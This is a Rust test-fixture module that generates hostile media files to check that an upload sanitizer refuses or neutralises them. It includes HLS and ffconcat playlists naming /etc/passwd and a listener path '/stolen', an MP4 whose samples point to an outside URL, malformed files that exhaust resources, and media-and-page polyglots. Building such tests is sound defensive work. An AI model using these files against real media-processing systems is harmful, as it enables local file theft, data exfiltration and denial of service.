//! Hostile recordings. Real ones are made by the same ffmpeg that will open them.

use std::path::PathBuf;
use std::process::Command;

use super::{Hostile, PAYLOAD, inert, join, neutralised, refused};
use crate::worker::{FFMPEG, Folder};

/// What ffmpeg makes of these options, as a file with this ending.
pub fn recording(options: &str, ending: &str) -> Vec<u8> {
    let folder = Folder::new();
    let path: PathBuf = folder.path().join(format!("made.{ending}"));
    let made = Command::new(&*FFMPEG)
        .args(["-hide_banner", "-nostdin", "-loglevel", "error"])
        .args(options.split_whitespace())
        .arg(&path)
        .output()
        .unwrap();
    assert!(made.status.success(), "{options}: {}", String::from_utf8_lossy(&made.stderr));
    std::fs::read(path).unwrap()
}

/// A clip with sound, and with where it was taken and what it is called.
pub fn clip(ending: &str, codecs: &str) -> Vec<u8> {
    recording(
        &format!(
            "-f lavfi -i testsrc2=size=640x360:rate=25:duration=4 -f lavfi -i sine=440:duration=4 {codecs} \
             -metadata title=SECRETTITLE -metadata location=+48.8577+002.295/"
        ),
        ending,
    )
}

pub fn mp4() -> Vec<u8> {
    clip("mp4", "-c:v libx264 -preset ultrafast -c:a aac")
}

/// A box of ISO/IEC 14496-12.
#[expect(clippy::trivially_copy_pass_by_ref, reason = "names are written as strings of bytes")]
pub fn iso_box(name: &[u8; 4], body: &[u8]) -> Vec<u8> {
    join(&[&u32::try_from(body.len() + 8).unwrap().to_be_bytes(), name, body])
}

/// Boxes and handlers of this name, called otherwise.
#[expect(clippy::trivially_copy_pass_by_ref, reason = "names are written as strings of bytes")]
pub fn renamed(mut bytes: Vec<u8>, name: &[u8; 4], new: &[u8; 4]) -> Vec<u8> {
    for at in 0..bytes.len() - 3 {
        if bytes[at..at + 4] == *name {
            bytes[at..at + 4].copy_from_slice(new);
        }
    }
    bytes
}

/// All places of these bytes, with what is so far behind them replaced.
pub fn replaced(mut bytes: Vec<u8>, name: &[u8], behind: usize, with: &[u8]) -> Vec<u8> {
    let places: Vec<usize> = bytes
        .windows(name.len())
        .enumerate()
        .filter(|(_, window)| *window == name)
        .map(|(at, _)| at)
        .collect();
    assert!(!places.is_empty());
    for at in places {
        let at = at + name.len() + behind;
        bytes[at..at + with.len()].copy_from_slice(with);
    }
    bytes
}

/// Playlists and lists of files, which name a file of this machine and a server that listens.
fn playlist(port: u16) -> Vec<u8> {
    format!("#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\n#EXTINF:10.0,\nhttp://127.0.0.1:{port}/stolen\n#EXT-X-ENDLIST\n").into_bytes()
}

fn concatenation(port: u16) -> Vec<u8> {
    format!("ffconcat version 1.0\nfile /etc/passwd\nfile http://127.0.0.1:{port}/stolen\n").into_bytes()
}

/// An MP4 whose samples are said to be elsewhere.
fn elsewhere(port: u16) -> Vec<u8> {
    let mut bytes = mp4();
    // `url ` with the flag that says "in this file": now it says "at this address".
    let address = format!("http://127.0.0.1:{port}/s\0");
    let at = bytes.windows(4).position(|name| name == b"url ").unwrap();
    bytes[at + 7] = 0;
    let grown = iso_box(b"url ", &join(&[&[0; 4], address.as_bytes()]));
    bytes.splice(at - 4..at + 8, grown.iter().copied());
    let more = u32::try_from(grown.len() - 12).unwrap();
    for name in [b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"] {
        let place = bytes.windows(4).position(|window| window == name).unwrap() - 4;
        let size = u32::from_be_bytes(bytes[place..place + 4].try_into().unwrap()) + more;
        bytes[place..place + 4].copy_from_slice(&size.to_be_bytes());
    }
    bytes
}

fn nested(depth: usize) -> Vec<u8> {
    (0..depth).fold(iso_box(b"ftyp", b"isom\0\0\0\0"), |mut bytes, _| {
        // Each claims all that is left, and that it is a container.
        bytes.extend(b"\0\x7F\xFF\xFFmoov");
        bytes
    })
}

pub fn wave(channels: u16, length: u32, samples: &[u8]) -> Vec<u8> {
    let format = join(&[
        &1_u16.to_le_bytes(),
        &channels.to_le_bytes(),
        &8_000_u32.to_le_bytes(),
        &16_000_u32.to_le_bytes(),
        &2_u16.to_le_bytes(),
        &16_u16.to_le_bytes(),
    ]);
    join(&[
        b"RIFF",
        &[0xFF; 4],
        b"WAVEfmt ",
        &16_u32.to_le_bytes(),
        &format,
        b"data",
        &length.to_le_bytes(),
        samples,
    ])
}

/// The files, and the port of the server that must hear of none of them.
pub fn all(port: u16) -> Vec<Hostile> {
    let (v, a) = ("video/mp4", "audio/mpeg");
    let mp4 = mp4();
    let webm = clip("webm", "-c:v libvpx -deadline realtime -c:a libopus");
    let mp3 = recording("-f lavfi -i sine=440:duration=3", "mp3");
    let mut ftyp_then_playlist = iso_box(b"ftyp", b"isom\0\0\0\0");
    ftyp_then_playlist.extend(playlist(port));
    let tag = |length: [u8; 4], rest: &[u8]| join(&[b"ID3\x04\0\0", &length, rest]);
    let ebml = join(&[
        b"\x1A\x45\xDF\xA3\x01\xFF\xFF\xFF\xFF\xFF\xFF\xFF",
        &b"\x18\x53\x80\x67\x01\xFF\xFF\xFF\xFF\xFF\xFF\xFF".repeat(20_000),
    ]);
    vec![
        refused("a playlist as MP4", "video", v, "type_mismatch", playlist(port)),
        refused("a list of files as MP4", "video", v, "type_mismatch", concatenation(port)),
        refused("a playlist behind a brand", "video", v, "damaged", ftyp_then_playlist),
        refused("a playlist behind a tag", "audio", a, "damaged", tag([0; 4], &playlist(port))),
        neutralised("an MP4 whose samples are elsewhere", "video", v, elsewhere(port)),
        refused("half an MP4", "video", v, "damaged", mp4[..mp4.len() / 2].to_vec()),
        refused(
            "a moov of 4 GB",
            "video",
            v,
            "type_mismatch",
            join(&[&iso_box(b"ftyp", b"isom\0\0\0\0"), b"\xFF\xFF\xFF\xFFmoov"]),
        ),
        refused("boxes in boxes in boxes", "video", v, "damaged", nested(50_000)),
        refused("nothing but a brand", "video", v, "damaged", iso_box(b"ftyp", b"isom\0\0\0\0")),
        neutralised(
            "a header that claims a century",
            "video",
            v,
            replaced(mp4.clone(), b"mvhd", 16, &[0x7F, 0xFF, 0xFF, 0xFF]),
        ),
        refused(
            "frames that last for days",
            "video",
            v,
            "too_long",
            replaced(mp4.clone(), b"stts", 12, &[0x1F, 0xFF, 0xFF, 0xFF]),
        ),
        refused(
            "a count of samples that no file has",
            "video",
            v,
            "damaged",
            replaced(mp4.clone(), b"stsz", 8, &[0x7F, 0xFF, 0xFF, 0xFF]),
        ),
        neutralised("an MP4 that is a page too", "video", v, join(&[&mp4, PAYLOAD])),
        refused(
            "a recording as video",
            "video",
            v,
            "type_mismatch",
            recording("-f lavfi -i sine=440:duration=1 -c:a aac", "m4a"),
        ),
        refused(
            "an AVIF that is pasted of nothing",
            "image",
            "image/avif",
            "damaged",
            join(&[
                &iso_box(b"ftyp", b"avif\0\0\0\0mif1"),
                &iso_box(b"meta", b"\0\0\0\0pitm\0\0\0\0\0\x01infe\x02\0\0\0\0\x01\0\0grid\0"),
            ]),
        ),
        refused("an AVI as MP4", "video", v, "type_mismatch", b"RIFF\xFF\xFF\0\0AVI LIST".to_vec()),
        refused("EBML without an end", "video", "video/webm", "damaged", ebml),
        refused("the head of a WebM", "video", "video/webm", "damaged", webm[..300].to_vec()),
        refused("an MP4 as WebM", "video", "video/webm", "type_mismatch", mp4),
        neutralised(
            "a WAV whose length lies",
            "audio",
            "audio/wav",
            wave(1, u32::MAX, &[0, 64].repeat(8_000)),
        ),
        refused("a WAV without channels", "audio", "audio/wav", "damaged", wave(0, 16_000, &[0; 16_000])),
        refused(
            "a WAV of 65,535 channels",
            "audio",
            "audio/wav",
            "damaged",
            wave(u16::MAX, 16_000, &[0; 16_000]),
        ),
        refused("a tag of 256 MB", "audio", a, "damaged", tag([0x7F; 4], &[0; 1000])),
        neutralised(
            "a page in a tag",
            "audio",
            a,
            join(&[&tag([0, 0, 1, 0], &[PAYLOAD, &[0; 128 - 39]].concat()), &mp3]),
        ),
        inert("an MP3 that is a page too", "audio", a, join(&[&mp3, PAYLOAD])),
        refused("an Ogg of noise", "audio", "audio/ogg", "damaged", join(&[b"OggS", &[0xA5; 5_000]])),
        refused(
            "a FLAC of nothing",
            "audio",
            "audio/flac",
            "damaged",
            join(&[b"fLaC\x80\0\0\x22", &[0xFF; 34]]),
        ),
    ]
}
